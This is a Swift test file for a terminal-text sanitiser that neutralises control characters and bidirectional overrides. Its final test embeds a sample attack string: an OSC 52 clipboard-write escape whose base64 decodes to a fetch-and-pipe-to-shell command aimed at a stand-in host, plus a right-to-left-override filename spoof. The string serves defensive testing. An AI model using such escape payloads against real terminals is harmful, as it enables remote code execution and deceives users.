import Intents
import Testing

struct TerminalTextTests {
    @Test(arguments: [
        "\u{0}", "\u{7}", "\u{8}", "\n", "\r", "\u{B}", "\u{C}", "\u{1B}", "\u{7F}", "\u{80}", "\u{85}", "\u{9B}",
        "\u{9F}", "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}", "\u{2068}",
        "\u{2069}",
    ])
    func refusesControlsAndDirectionOverrides(character: String) {
        #expect(TerminalText.containsForbidden("before" + character + "after"))
        #expect(TerminalText.neutralised("a" + character + "b") == "a\u{FFFD}b")
    }

    @Test(arguments: [
        "plain words", "tab\tseparated", "Zürich", "naïve café", "東京", "🙂✨", "e\u{301}", "\u{A0}no-break",
        "\u{200F}mark", "\u{2028}", "– — “ ” …", "\u{2065}", "\u{206A}", "\u{2029}",
    ])
    func keepsOrdinaryText(text: String) {
        #expect(!TerminalText.containsForbidden(text))
        #expect(TerminalText.neutralised(text) == text)
    }

    @Test func neutralisesEverySequenceInARealAttack() {
        let attack = "hi \u{1B}[2J\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{9B}31m\u{202E}gnp.exe"
        let shown = TerminalText.neutralised(attack)
        #expect(!shown.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) })
        #expect(!shown.unicodeScalars.contains { $0.value == 0x202E })
        #expect(shown.hasPrefix("hi \u{FFFD}[2J\u{FFFD}]52;c;"))
    }
}
